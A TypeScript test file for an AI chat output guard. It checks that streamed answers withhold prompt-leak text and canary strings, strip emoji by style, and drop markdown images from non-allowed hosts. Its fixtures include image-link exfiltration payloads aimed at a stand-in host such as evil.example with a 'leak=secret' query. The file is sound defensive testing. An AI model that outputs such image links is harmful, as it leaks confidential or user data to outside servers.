/**
 * The output guard: images only from allowed hosts, emoji per style, text held back only briefly, and
 * streamed output the same as checking the whole answer. Its leak cases are in leak-check.test.ts.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { words } from "../knowledge/text";
import { runs, squash } from "./leak-check";
import { TYPOGRAPHY } from "./leak-hold";
import { HOLDBACK_CHARS, LEAK_RUN_WORDS, OutputGuard, REFUSAL, type GuardOptions } from "./output-guard";
import { CANARY, CONFIDENTIAL, options, stream } from "./output-guard-test-support";

describe("output guard", () => {
  it("streams an ordinary answer as it comes, holding back at most the word being written, and joins back to it", () => {
    const answer =
      "Refunds reach your card within five working days. Track each refund via your Orders page, where every order shows its status.";
    const guard = new OutputGuard(options());
    let shown = "";
    let pushed = "";
    for (const word of answer.match(/\s*\S+/g) ?? []) {
      shown += guard.push(word);
      pushed += word;
      const open = /[A-Za-z]$/.test(pushed) ? (pushed.match(/\S+$/)?.[0].length ?? 0) : 0;
      expect(shown).toBe(pushed.slice(0, pushed.length - open));
    }
    expect(shown.length).toBeGreaterThan(0);
    shown += guard.end();
    expect(shown).toBe(answer);
    expect(guard.refused).toBe(false);
    expect(guard.text).toBe(answer);
  });

  it("holds back only what could still become a leak: words that run in the prompt, the start of the canary", () => {
    const guard = new OutputGuard(options());
    expect(guard.push("Sure! ")).toBe("Sure!"); // spaces at the end wait: the answer may end there
    // "Answer only from the knowledge" runs in the prompt: a tenth word of it would be a leak.
    expect(guard.push("Answer only from the knowledge ")).toBe(" ");
    expect(guard.push("base, I mean. ")).toBe("Answer only from the knowledge base, I mean.");
    expect(guard.push(`The code is ${CANARY.slice(0, 8).toUpperCase()}`)).toBe(" The code is ");
    expect(guard.push("XYZ. ")).toBe(`${CANARY.slice(0, 8).toUpperCase()}XYZ.`);
    expect(guard.push("Caf\u00e9 au lait, ")).toBe(" Caf\u00e9 au lait,"); // Western European letters are plain text
    expect(guard.push("\u03ba\u03b1\u03bb\u03ae")).toBe(""); // past plain text: the fixed hold-back, as before
    expect(guard.end()).toBe(" \u03ba\u03b1\u03bb\u03ae");
  });

  it("keeps images only from allowed https hosts; others become their alt text and are never shown in part", () => {
    const text = [
      "Logo: ![Shop logo](https://images.shop.example/logo.png)",
      "Pixel: ![pixel](https://evil.example/p.png?leak=secret)",
      "Plain http: ![http](http://images.shop.example/a.png)",
      "Look-alike: ![alike](https://images.shop.example.evil.test/a.png)",
      "Sub-host: ![sub](https://cdn.images.shop.example/a.png)",
      'Titled: ![titled](https://evil.example/t.png "title")',
    ].join("\n");
    const { shown, guard } = stream(text, options(), 3);
    expect(guard.text).toBe(
      [
        "Logo: ![Shop logo](https://images.shop.example/logo.png)",
        "Pixel: pixel",
        "Plain http: http",
        "Look-alike: alike",
        "Sub-host: sub",
        "Titled: titled",
      ].join("\n"),
    );
    const visible = shown.join("");
    expect(visible).toBe(guard.text);
    expect(visible).not.toContain("evil.example");
  });

  it("removes emoji when the style says never, keeps them when sometimes, and keeps ™ and ©", () => {
    const text = "Great news 🎉 the Arduino™ Uno ships today 👍🏽! © Acme";
    expect(stream(text).guard.text).toBe("Great news the Arduino™ Uno ships today! © Acme");
    expect(stream(text, options({ emoji: "sometimes" })).guard.text).toBe(text);
  });

  it("examines a long answer streamed in small pieces a bounded number of times per character, not once per piece", () => {
    const answer = longAnswer(LONG_ANSWER_WORDS);
    const guard = new OutputGuard(options());
    let shown = "";
    for (let i = 0, size = 1; i < answer.length; i += size, size = (size % 6) + 1) {
      shown += guard.push(answer.slice(i, i + size));
    }
    shown += guard.end();
    expect(shown).toBe(answer);
    expect(guard.examined).toBeGreaterThanOrEqual(answer.length);
    expect(guard.examined).toBeLessThanOrEqual(EXAMINED_PER_CHAR * answer.length);
  });
});

// Fixed, so a run costs the same every time; a failure prints its seed for `fc.assert(…, { seed })`.
const PROPERTY_RUNS = 400;
const PIECE_SIZES = [1, 2, 3, 5, 8, 13];

describe("output guard, streamed against the whole-answer check", () => {
  it("shows exactly what checking the whole answer after every piece shows, however the answer is split", () => {
    const confidentialWords = CONFIDENTIAL.split(/\s+/);
    const fragment = fc.oneof(
      fc.constantFrom(
        CANARY,
        CANARY.toUpperCase().split("").join(" "),
        CANARY.slice(0, 7),
        " ",
        "\n",
        ". ",
        "!",
        "![",
        "](",
        ")",
        "<",
        ">",
        '"',
        "'",
        "’",
        " 'ti)tle'",
        ' "ti)tle"',
        "![Shop logo](https://images.shop.example/logo.png)",
        "![pixel](https://evil.example/p.png?leak=secret)",
        '![titled](https://evil.example/t.png "ti)tle")',
        "![a](<https://images.shop.example/a.png> 'x')",
        "https://evil.example/p.png",
        "🎉",
        "👍🏽",
        "👨‍👩‍👧",
        "\u200d",
        "\ufe0f",
        "🏽",
        "™",
        "©",
        "Σ",
        "ΟΣ.",
        "İ",
        "e\u0301",
        "\u0301",
        "\u1100\u1161",
        "\u11a8",
        "don't",
        "\u2014",
        "\u00a0",
        "\u201csaid\u201d",
        "\u2026",
        "\u00ab\u00c6r\u00f8\u00bb",
        "stra\u00dfe",
        "\u00e9",
        "\u00d6L",
        "\u00b5",
        "\u00bd",
      ),
      fc
        .record({ from: fc.nat({ max: confidentialWords.length - 1 }), count: fc.integer({ min: 1, max: 12 }) })
        .map(({ from, count }) => confidentialWords.slice(from, from + count).join(" ")),
      fc.string({ maxLength: 6 }),
      fc.string({ unit: "binary", maxLength: 4 }),
      fc.string({ unit: fc.constantFrom(..."aΣς !['\n]().:é🎉\u0301\u200d"), maxLength: 8 }),
    );
    const answers = fc.array(fragment, { maxLength: 60 }).map((parts) => parts.join(""));
    const guardOptions = fc.record({
      canary: fc.constantFrom(CANARY, "ΣΑΣ", undefined),
      emoji: fc.constantFrom("never" as const, "sometimes" as const),
      quotable: fc.constantFrom("", CONFIDENTIAL.split("\n")[1] ?? ""),
    });
    const sizes = fc.array(fc.constantFrom(...PIECE_SIZES), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(answers, sizes, guardOptions, (answer, pieceSizes, overrides) => {
        const pieces: string[] = [];
        for (let i = 0, n = 0; i < answer.length; n++) {
          const size = pieceSizes[n % pieceSizes.length] ?? 1;
          pieces.push(answer.slice(i, i + size));
          i += size;
        }
        const guard = new OutputGuard(options(overrides));
        const streamed = [...pieces.map((piece) => guard.push(piece)), guard.end()];
        const reference = wholeAnswerGuard(options(overrides), pieces);
        expect({ shown: streamed, refused: guard.refused, text: guard.text }).toEqual(reference);
        if (!guard.refused) expect(streamed.join("").trimStart()).toBe(guard.text); // nothing shown is taken back
      }),
      { numRuns: PROPERTY_RUNS },
    );
  });
});

/**
 * The guard as it was before it streamed incrementally, kept as the reference: after every piece
 * it checks and cleans the whole answer so far, and shows the cleaned text up to what it must hold
 * back (recomputed from the whole answer: what could still become part of a leak, trailing spaces).
 */
function wholeAnswerGuard(
  guardOptions: GuardOptions,
  pieces: string[],
): { shown: string[]; refused: boolean; text: string } {
  const IMAGE = /!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+(?:"[^"]*"|'[^']*'))?\s*\)/g;
  // The start of an image the text after it could still complete, up to the end.
  const OPEN_IMAGE =
    /!(?:$|\[[^\]\n]*(?:$|\](?:$|\(\s*<?[^)\s>]*>?(?:$|\s+(?:$|"[^"]*(?:$|"\s*$)|'[^']*(?:$|'\s*$))))))/y;
  const unclosedImage = (text: string): number => {
    for (let at = text.indexOf("!"); at !== -1; at = text.indexOf("!", at + 1)) {
      OPEN_IMAGE.lastIndex = at;
      if (OPEN_IMAGE.test(text)) return at;
    }
    return text.length;
  };
  const EMOJI =
    / ?(?![\u00a9\u00ae\u2122])\p{Extended_Pictographic}(?:\ufe0f|\u200d|\p{Emoji_Modifier}|\p{Extended_Pictographic})*/gu;
  const quotable = runs(guardOptions.quotable ?? "");
  const confidentialRuns = new Set([...runs(guardOptions.confidential)].filter((run) => !quotable.has(run)));
  const canary = guardOptions.canary ? squash(guardOptions.canary) : null;
  const promptWords = ` ${words(guardOptions.confidential).join(" ")} `;
  // What could still become part of a leak: the end that starts the canary, the last words that run in the prompt.
  const leakHeld = (text: string): number => {
    const plain = [...text].every((c) => c.charCodeAt(0) < 0x80 || /^[À-ÖØ-öø-ÿ’]$/.test(c) || TYPOGRAPHY.includes(c));
    if (!plain) return HOLDBACK_CHARS;
    let canaryHeld = 0;
    for (let start = 0; canary && start < text.length; start++) {
      const squashed = /[A-Za-z0-9À-ÖØ-öø-ÿ]/.test(text.charAt(start)) ? squash(text.slice(start)) : null;
      if (squashed !== null && squashed.length < canary.length && canary.startsWith(squashed)) {
        canaryHeld = text.length - start;
        break;
      }
    }
    const tokens = [...text.matchAll(/[A-Za-z0-9À-ÖØ-öø-ÿ'\u2019]+/g)];
    const last = tokens.at(-1);
    const open = last && last.index + last[0].length === text.length ? last : undefined;
    const complete = tokens
      .filter((token) => token !== open)
      .map((token) => ({ start: token.index, word: token[0].toLowerCase().replace(/['\u2019]/g, "") }))
      .filter((token) => token.word !== "");
    let run = Math.min(LEAK_RUN_WORDS - 1, complete.length);
    const lastWords = (count: number) => complete.slice(complete.length - count).map((token) => token.word);
    while (run > 0 && !promptWords.includes(` ${lastWords(run).join(" ")} `)) run--;
    const runHeld =
      run > 0 ? text.length - complete[complete.length - run]!.start : open ? text.length - open.index : 0;
    return Math.max(canaryHeld, runHeld);
  };
  const leaks = (text: string) =>
    (canary && squash(text).includes(canary)) || [...runs(text)].some((run) => confidentialRuns.has(run));
  const allowed = (url: string) => {
    try {
      const parsed = new URL(url);
      return parsed.protocol === "https:" && guardOptions.allowedImageHosts.includes(parsed.hostname.toLowerCase());
    } catch {
      return false;
    }
  };
  const clean = (text: string) => {
    const images = text.replace(IMAGE, (whole, _alt: string, url: string) => (allowed(url) ? whole : _alt));
    return guardOptions.emoji === "never" ? images.replace(EMOJI, "") : images;
  };
  let raw = "";
  let sent = 0;
  let refused = false;
  const release = (cleaned: string, upTo: number) => {
    if (upTo <= sent) return "";
    const out = cleaned.slice(sent, upTo);
    sent = upTo;
    return out;
  };
  const shown = pieces.map((piece) => {
    if (refused) return "";
    raw += piece;
    if (leaks(raw)) {
      refused = true;
      return "";
    }
    const cleaned = clean(raw);
    const unclosed = unclosedImage(cleaned);
    const spaces = cleaned.length - cleaned.trimEnd().length;
    return release(cleaned, Math.min(unclosed, cleaned.length - Math.max(leakHeld(raw), spaces)));
  });
  const cleaned = clean(raw).trimEnd();
  shown.push(refused ? "" : release(cleaned, cleaned.length));
  return { shown, refused, text: refused ? REFUSAL : clean(raw).trim() };
}

// Enough words that re-scanning the answer on every piece costs hundreds of times its length.
const LONG_ANSWER_WORDS = 1_500;
// Each character is examined by a few passes (leak check, images, emoji, unclosed image) plus the short tail it sits in.
const EXAMINED_PER_CHAR = 24;

/** A deterministic answer of `count` words: sentences, paragraphs and an allowed image, no leaks. */
function longAnswer(count: number): string {
  const vocabulary = "refunds reach your card within five working days you can follow each order on its page".split(
    " ",
  );
  const parts: string[] = [];
  for (let i = 0; i < count; i++) {
    parts.push(vocabulary[(i * 7 + (i >> 3)) % vocabulary.length] ?? "");
    if (i % 12 === 11) parts.push(i % 60 === 59 ? ".\n\n" : ". ");
    else if (i % 200 === 100) parts.push(" ![Order page](https://images.shop.example/orders.png) ");
    else parts.push(" ");
  }
  return parts.join("").trim();
}
